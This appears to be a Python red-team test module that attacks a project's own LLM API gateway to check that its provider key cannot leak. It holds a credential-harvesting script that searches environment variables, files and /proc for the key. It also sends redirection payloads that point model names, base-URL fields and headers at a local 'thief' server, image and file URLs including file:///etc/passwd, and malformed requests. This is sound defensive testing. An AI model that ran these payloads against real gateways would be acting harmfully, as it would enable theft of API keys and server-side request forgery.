"""Attacks on the provider's key, and on the way to providers."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from leadscrew.testing.redteam.arena import Arena, Weakened, shows
from leadscrew.testing.redteam.attack import Attack, Sighting
from leadscrew.testing.redteam.hall import Hall, solver
from leadscrew.testing.upstream import Fault, ScriptedUpstream

SEARCH = solver("""
import itertools
found = [repr(dict(os.environ))]
places = [given["file"], "/run", "/etc", "/guest", "/work", "/tmp", "/root", "/home", "/var"]
names = itertools.chain(*([place] if os.path.isfile(place) else
    (os.path.join(folder, name) for folder, _, files in os.walk(place) for name in files) for place in places))
pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
for path in itertools.chain(itertools.islice(names, 4000),
        ("/proc/%s/%s" % (pid, what) for pid in pids for what in ("environ", "cmdline", "maps", "status"))):
    try:
        with open(path, "rb") as stream:
            data = stream.read(100000).decode("latin-1")
    except OSError:
        continue
    at = data.find("sk-sesame")
    if at >= 0:
        found.append(path + data[at:at + 200])
return found
""")


async def _search(arena: Arena) -> Sighting:
    """Look for the key in the environment, in files, and in everything that /proc shows."""
    async with Hall(arena) as hall:
        file = arena.decoy("keys.env", f"{hall.key}\n")
        sandbox = arena.sandbox if arena.defended else Weakened(arena.sandbox, shows(file))
        play = await hall.run(SEARCH, [{"file": file}], sandbox=sandbox)
        return Sighting(
            hall.key in play.text(), f"{len(play.answers[0] or ())} places looked hopeful; {play.outcomes[0]}"
        )


ELSEWHERE = {
    "model": """
return [ask(given, {**chat(given["mark"]), "model": name})[0] for name in
    (given["thief"] + "/chat/completions", given["thief"], "openai/" + given["thief"], "//127.0.0.1/x")]
""",
    "base-url": """
more = {name: given["thief"] + tail for name in ("api_base", "base_url", "endpoint", "url", "proxy", "api_url", "azure_endpoint",
    "provider", "webhook", "callback_url") for tail in ("", "/chat/completions")}
heads = [(name, given["thief"].split("/")[2]) for name in ("Host", "X-Forwarded-Host", "X-Base-Url", "Forwarded", "Proxy")]
return [ask(given, {**chat(given["mark"]), name: value, "api_base": given["thief"] + "/chat/completions"})[0]
    for name, value in more.items()] + [ask(given, chat(given["mark"]), headers=[h])[0] for h in heads] + [
    ask(given, chat(given["mark"]), given["thief"] + "/chat/completions")[0]]
""",
}


@asynccontextmanager
async def _thief() -> AsyncIterator[ScriptedUpstream]:
    async with ScriptedUpstream(lambda request: "mine") as thief:
        yield thief


async def _elsewhere(arena: Arena, how: str) -> Sighting:
    async with _thief() as thief, Hall(arena) as hall:
        play = await hall.run(solver(ELSEWHERE[how]), [{"mark": arena.marker, "thief": thief.url}])
        got = sum(hall.key in repr(headers) for headers in thief.headers)
        return Sighting(
            thief.requests > 0, f"{thief.requests} calls went elsewhere, {got} with the key; {play.answers[0]}"
        )


async def _by_model(arena: Arena) -> Sighting:
    return await _elsewhere(arena, "model")


async def _by_base_url(arena: Arena) -> Sighting:
    return await _elsewhere(arena, "base-url")


async def _redirect(arena: Arena) -> Sighting:
    """A provider that sends the call on to somebody else, key and all."""
    from aiohttp import web

    async with _thief() as thief:

        async def on(request: web.BaseRequest) -> web.Response:
            await request.read()
            return web.Response(status=307, headers={"Location": f"{thief.url}/chat/completions"})

        server = web.Server(on, access_log=None)
        runner = web.ServerRunner(server)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = runner.addresses[0][1]
        try:
            async with Hall(arena, base_url=f"http://127.0.0.1:{port}/v1") as hall:
                await hall.run(solver('return ask(given, chat("x"))[0]'), [{}])
        finally:
            await runner.cleanup()
        return Sighting(thief.requests > 0, f"{thief.requests} calls followed the redirect")


FETCH = solver("""
at = given["thief"] + "/picture-" + given["mark"]
parts = [{"type": "image_url", "image_url": {"url": url}} for url in (at, " " + at, "HTTP" + at[4:], "//x/" + given["mark"],
    "file:///etc/passwd?" + given["mark"], "data:x", "\\tdata:" + at)]
parts += [{"type": "file", "file": {"file_data": at}}, {"type": "file", "file": {"file_id": given["mark"]}},
    {"type": "input_audio", "input_audio": {"data": "AA", "format": "wav", "url": at}},
    {"type": "video_url", "video_url": {"url": at}}]
blocks = [{"type": "image", "source": {"type": "url", "url": at}}, {"type": "document", "source": {"type": "url", "url": at}},
    {"type": "document", "source": {"type": "file", "file_id": given["mark"]}}]
tools = [{"type": "web_search", "url": at}, {"type": "mcp", "server_url": at}, {"type": "web_fetch_20250910", "name": at}]
many = lambda part: {"messages": [{"role": "user", "content": [part, {"type": "text", "text": "look"}]}]}
return [ask(given, many(part))[0] for part in parts] + [
    ask(given, {**many(part), "max_tokens": 5}, "/v1/messages")[0] for part in blocks] + [
    ask(given, chat("x", tools=[tool], mcp_servers=[tool], web_search_options={"x": at}))[0] for tool in tools]
""")


async def _fetch(arena: Arena) -> Sighting:
    """Have the provider fetch something for the program: what it asks for would be a letter to anybody."""
    async with _thief() as thief, Hall(arena) as hall:
        play = await hall.run(FETCH, [{"mark": arena.marker, "thief": thief.url}])
        asked = hall.asked(arena.marker)
        return Sighting(asked > 0, f"{asked} addresses reached the provider; {play.answers[0]}")


ECHO = solver("""
found = []
for path in ("/v1/chat/completions", "/v1/messages"):
    status, text = ask(given, chat(given["mark"], stream=given["stream"], max_tokens=20), path)
    found.append(text)
    said = []
    for line in text.splitlines():
        if line.startswith("data: {"):
            event = json.loads(line[6:])
            for choice in event.get("choices") or []:
                said.append((choice.get("delta") or {}).get("content") or "")
            said.append(((event.get("delta") or {}).get("text")) or "")
    found.append("".join(said))
try:
    from leadscrew_guest import llm, log
    log(prompt="x", response=found)
    llm("once more")
except Exception as error:
    found.append(str(error))
print(found)
return found
""")


async def _echo(arena: Arena, fault: Fault, *, stream: bool = False) -> Sighting:
    """A provider that shows the key which came with a call: it must not get into a box, nor into anything that is kept."""
    async with Hall(arena, fault=lambda number, request: fault) as hall:
        play = await hall.run(ECHO, [{"mark": arena.marker, "stream": stream}])
        told = play.text() + repr([r.message for r in play.replies])
        inside, kept = hall.key in told, hall.key in hall.written()
        return Sighting(
            inside or kept or not hall.upstream.requests,
            f"the key {'came' if inside else 'did not come'} into the box, was {'' if kept else 'not '}kept; {play.outcomes[0]}",
        )


async def _echo_reply(arena: Arena) -> Sighting:
    return await _echo(arena, "echo_key")


async def _echo_error(arena: Arena) -> Sighting:
    return await _echo(arena, "echo_key_in_error")


async def _echo_stream(arena: Arena) -> Sighting:
    return await _echo(arena, "echo_key", stream=True)


FAULTS = solver("""
deep = b'{"messages":' + b"[" * 50000 + b"]" * 50000 + b"}"
bodies = [b"", b"{", b"[]", b"null", b"\\xff\\xfe", deep, b'{"messages": 1}', b'{"messages": []}', b'{"messages": [1]}',
    b'{"messages": [{"role": "root", "content": "x"}]}', b'{"messages": [{"role": "user"}]}', b'{"messages": NaN}',
    b'{"messages": [{"role": "user", "content": "\\\\ud800"}]}', b'{"messages": [{"role": "user", "content": "x"}], "n": 1e999}']
found = [ask(given, body)[1] for body in bodies] + [ask(given, body, "/v1/messages")[1] for body in bodies]
found += [ask(given, b"{}", path)[1] for path in ("/", "/v1", "/v1/models", "/debug", "/metrics", "/admin", "/key", "/v1/config")]
found += [ask(given, b"{}", headers=[("x" * 9000, "y")])[1], ask(given, b"{}", headers=[("x", "y" * 100000)])[1]]
return found
""")


async def _faults(arena: Arena) -> Sighting:
    """Break the gateway's reading, and read what it says about it."""
    async with Hall(arena) as hall:
        play = await hall.run(FAULTS, [{}])
        told = play.text()
        bad = hall.key in told or "Traceback" in told or str(arena.folder) in told
        return Sighting(bad, f"{len(play.answers[0] or ())} broken requests; {play.outcomes[0]}")


WAY = "keys and addresses are the host's"
ATTACKS = (
    Attack(
        "key/search",
        "key",
        "look for the key in environment, files and /proc",
        "only the gateway's process has it",
        _search,
    ),
    Attack("key/model-url", "key", "give an address as the model's name", WAY, _by_model),
    Attack("key/base-url", "key", "give another address in fields, headers and the path", WAY, _by_base_url),
    Attack(
        "key/redirect", "key", "follow a redirect of the provider elsewhere", "redirects are not followed", _redirect
    ),
    Attack(
        "key/fetch", "key", "have the provider fetch an address", "nothing is passed on that makes it fetch", _fetch
    ),
    Attack("key/echo-reply", "key", "read the key in a reply that echoes it", "secrets are taken out", _echo_reply),
    Attack("key/echo-error", "key", "read the key in an error that echoes it", "secrets are taken out", _echo_error),
    Attack(
        "key/echo-stream",
        "key",
        "read the key in a stream that cuts it in pieces",
        "secrets are taken out",
        _echo_stream,
    ),
    Attack(
        "key/faults", "key", "read secrets in the gateway's own errors", "errors say what was wrong, no more", _faults
    ),
)
